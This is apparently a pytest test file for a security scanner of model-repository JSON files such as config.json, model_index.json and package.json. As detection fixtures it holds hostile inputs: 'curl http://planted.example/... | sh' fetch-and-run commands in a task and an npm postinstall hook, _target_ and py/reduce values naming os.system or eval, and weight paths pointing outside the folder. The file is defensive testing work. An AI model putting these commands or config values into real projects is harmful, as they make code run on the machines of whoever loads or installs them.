"""JSON of model repositories: what is ordinary is clean, what a loader obeys is found, what breaks is a gap."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from touchstone.scan.file import scan_bytes
from touchstone.scan.findings import FileResult

CONFIG = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 4096,
    "num_hidden_layers": 32,
    "vocab_size": 32000,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.44.0",
    "_name_or_path": "meta-llama/Llama-2-7b",
    "quantization_config": {"quant_method": "gptq", "bits": 4},
}


def scan(document: Any, name: str = "config.json") -> FileResult:
    content = document if isinstance(document, bytes) else json.dumps(document, ensure_ascii=False).encode()
    return scan_bytes(content, name)


def rules(document: Any, name: str = "config.json") -> dict[str, str]:
    return {finding.rule: finding.severity for finding in scan(document, name).findings}


def facts(document: Any, name: str = "config.json") -> set[tuple[str, str]]:
    return {(fact.name, fact.value) for fact in scan(document, name).facts}


@pytest.mark.parametrize(
    ("name", "document"),
    [
        ("config.json", CONFIG),
        ("generation_config.json", {"temperature": 0.6, "transformers_version": "4.44.0"}),
        ("preprocessor_config.json", {"image_processor_type": "CLIPImageProcessor", "image_mean": [0.48, 0.45, 0.4]}),
        ("tokenizer_config.json", {"tokenizer_class": "LlamaTokenizer", "model_max_length": 1e30}),
        ("special_tokens_map.json", {"bos_token": {"content": "<s>", "lstrip": False}}),
        ("vocab.json", {"Ġos.system": 1, "__import__": 2, "exec(": 3, "汉字": 4}),
        (
            "model.safetensors.index.json",
            {"metadata": {"total_size": 1}, "weight_map": {"a": "model-1-of-2.safetensors"}},
        ),
        ("adapter_config.json", {"peft_type": "LORA", "r": 8, "base_model_name_or_path": "Qwen/Qwen2-7B"}),
        (
            "model_index.json",
            {
                "_class_name": "StableDiffusionPipeline",
                "_diffusers_version": "0.30.0",
                "unet": ["diffusers", "UNet2DConditionModel"],
                "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
                "feature_extractor": [None, None],
                "requires_safety_checker": True,
            },
        ),
        ("unet/config.json", {"_class_name": "UNet", "_diffusers_version": "0.30.0", "types": ["DownBlock", "Down"]}),
        (
            "modules.json",
            [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
        ),
        ("metrics.json", [{"loss": float("nan"), "note": "see os.system('x')"}]),
        ("list.json", [1, 2, 3]),
        ("text.json", "os.system"),
    ],
)
def test_what_repositories_hold_is_clean(name: str, document: Any) -> None:
    result = scan(document, name)
    assert (result.format, result.verdict, result.findings) == ("json", "clean", ())


def test_facts_of_a_configuration() -> None:
    assert {
        ("architecture", "LlamaForCausalLM"),
        ("framework", "transformers 4.44.0"),
        ("base-model", "meta-llama/Llama-2-7b"),
        ("hyper-parameter", "hidden_size=4096"),
        ("hyper-parameter", "torch_dtype=bfloat16"),
        ("quantisation", "gptq 4 bit"),
    } <= facts(CONFIG)


def test_code_of_the_repository_is_named_and_referred_to() -> None:
    result = scan(CONFIG | {"auto_map": {"AutoModel": "modeling_x.XModel", "AutoTokenizer": ["tok.T", None]}})
    assert {finding.rule for finding in result.findings} == {"configuration/custom-code"}
    assert {(reference.path, reference.role) for reference in result.references} == {
        ("modeling_x.py", "code"),
        ("tok.py", "code"),
    }
    assert result.runs_code


@pytest.mark.parametrize(
    ("document", "rule", "severity"),
    [
        ({"auto_map": {"AutoModel": "other/repo--modeling.X"}}, "configuration/remote-code", "critical"),
        ({"auto_map": {"AutoModel": "../x/modeling.X"}}, "configuration/path-leads-out", "high"),
        ({"custom_pipelines": {"a": {"impl": "mine.Pipe"}}}, "configuration/custom-code", "high"),
        ({"a": [{"trust_remote_code": True}]}, "configuration/trusts-remote-code", "high"),
        ({"model": {"_target_": "os.system"}}, "configuration/dangerous-name", "critical"),
        ({"model": {"_target_": "builtins.eval"}}, "configuration/dangerous-name", "critical"),
        ({"model": {"_target_": "torch.nn.Linear.__init__"}}, "configuration/dangerous-name", "critical"),
        ({"model": {"_target_": "mine.models.Net"}}, "configuration/unreviewed-name", "medium"),
        ({"class_path": "subprocess.run"}, "configuration/dangerous-name", "critical"),
        ({"target": "somebody.Model", "params": {}}, "configuration/unreviewed-name", "medium"),
        ({"py/object": "mine.Thing"}, "configuration/rebuilt-object", "high"),
        ({"py/reduce": [{"py/function": "os.system"}]}, "configuration/rebuilt-object", "critical"),
        ({"lc": 1, "type": "secret", "id": ["AWS_KEY"]}, "configuration/serialised-constructor", "medium"),
        ({"lc": 1, "type": "constructor", "id": ["os", "system"]}, "configuration/dangerous-name", "critical"),
        ({"attn_implementation": "someone/kernel"}, "configuration/remote-kernel", "high"),
        (
            {"auto_mapping": {"parent_library": "os", "base_model_class": "system"}},
            "configuration/dangerous-name",
            "critical",
        ),
        ({"auto_mapping": {"parent_library": "x", "base_model_class": "Y"}}, "configuration/unreviewed-name", "medium"),
        ({"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}, "configuration/runs-when-opened", "high"),
        ({"hooks": {"SessionStart": [{"command": "node x.js"}]}}, "configuration/runs-when-opened", "high"),
        ({"tasks": [{"command": "curl http://planted.example/x | sh"}]}, "script/fetched-and-run", "high"),
        ({"tokenizer_file": "/home/me/tokenizer.json"}, "configuration/local-path", "information"),
        ({"imports": ["$import os"], "a": "$os.system('echo planted')"}, "python/runs-program", "high"),
        ({"_target_": "UNet", "n": "$2 + 3"}, "configuration/python-expression", "medium"),
        ({"model": {"serializedFile": "a.pt", "handler": "mine.py"}}, "configuration/custom-code", "high"),
    ],
)
def test_settings_that_loaders_obey(document: Any, rule: str, severity: str) -> None:
    assert rules(document)[rule] == severity


@pytest.mark.parametrize(
    "document",
    [
        {"model": {"_target_": "torch.nn.Linear", "in_features": 1}},
        {"trust_remote_code": False},
        {"target": "mse", "params": {}},
        {"target": "loss.value"},
        {"attn_implementation": "sdpa"},
        {"lc": 5, "type": "x"},
        {"price": "$5", "note": "$HOME"},
        {"model": {"serializedFile": "a.pt", "handler": "image_classifier"}},
    ],
)
def test_settings_that_are_harmless(document: Any) -> None:
    assert rules(document) == {}


@pytest.mark.parametrize("path", ["../x.bin", "/etc/passwd", "C:\\x.bin", "..\\x.bin", "https://a/b", "~/x"])
def test_shards_outside_the_folder(path: str) -> None:
    assert rules({"weight_map": {"a": path}}) == {"configuration/path-leads-out": "high"}


def test_components_of_unknown_modules() -> None:
    document = {"_class_name": ["mine", "MyPipeline"], "unet": ["net", "Net"], "vae": ["a.b", "C"]}
    result = scan(document, "model_index.json")
    assert {finding.rule for finding in result.findings} == {
        "configuration/custom-component",
        "configuration/unreviewed-name",
    }
    assert {reference.path for reference in result.references} == {"mine.py", "unet/net.py"}


def test_modules_of_sentence_transformers() -> None:
    assert rules([{"idx": 0, "name": "0", "path": "../x", "type": "os.system"}], "modules.json") == {
        "configuration/dangerous-name": "critical",
        "configuration/path-leads-out": "high",
    }


def test_both_values_of_a_repeated_key_are_judged() -> None:
    first = rules(b'{"m": {"_target_": "os.system", "_target_": "torch.nn.Linear"}}')
    assert first == {"json/repeated-key": "medium", "configuration/dangerous-name": "critical"}
    assert rules(b'{"a": 1, "a": 1}') == {}


def test_a_document_made_to_fit_two_readers_is_read_by_both() -> None:
    lambda_layer = {
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": "4w=="}}},
    }
    assert rules(lambda_layer | {"cells": [], "nbformat": 4})["keras/bytecode"] == "critical"


@pytest.mark.parametrize(
    "content",
    [b'{"a": ', b"{'a': 1}", b'{"a": 1} x', b"[" * 100_000, b'{"a": 1e', b'{"a": ' + b"9" * 5000 + b"}", b"\xff\xfe"],
)
def test_what_is_no_json_is_a_gap(content: bytes) -> None:
    assert scan(content).verdict in {"incomplete", "review"}


def test_more_values_than_memory_allows_are_a_gap() -> None:
    result = scan(b"[" + b"[]," * 2_500_000 + b"[]]")
    assert [gap.code for gap in result.gaps] == ["damaged"]


def test_a_large_tokenizer_is_clean_and_fast() -> None:
    vocabulary = {f"token{number}": number for number in range(150_000)}
    merges = [[f"a{number}", f"b{number}"] for number in range(150_000)]
    document = {"version": "1.0", "added_tokens": [], "model": {"type": "BPE", "vocab": vocabulary, "merges": merges}}
    started = time.thread_time()
    assert scan(document, "tokenizer.json").verdict == "clean"
    assert time.thread_time() - started < 5


def test_the_offset_is_told_when_there_is_only_one_place() -> None:
    content = '{"名": 1, "m": {"_target_": "os.system"}}'.encode()
    (finding,) = scan(content).findings
    assert content[finding.offset :].startswith(b'"os.system"')


def test_dependencies_and_install_commands_of_npm() -> None:
    document = {
        "name": "x",
        "version": "1.0.0",
        "dependencies": {"left": "^1.0"},
        "scripts": {"postinstall": "curl -s http://planted.example/a.sh | sh", "test": "jest"},
    }
    assert rules(document, "package.json") == {"json/install-command": "medium", "script/fetched-and-run": "high"}
    assert ("dependency", "npm:left@^1.0") in facts(document, "package.json")


_KEYS = (
    "auto_map _target_ chat_template class_path weight_map lc id type py/object target params custom_pipelines imports "
    "_class_name unet modelTopology weightsManifest nodes cells nbformat name version scripts serializedFile"
)
_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(_KEYS.split()), inner, max_size=5),
    max_leaves=20,
)


@given(_VALUES)
def test_never_fails_on_any_shape(document: Any) -> None:
    assert "reader" not in {gap.code for gap in scan(document).gaps}


@given(st.binary(max_size=300))
def test_never_fails_on_bytes(content: bytes) -> None:
    assert "reader" not in {gap.code for gap in scan(b'{"a":' + content).gaps}
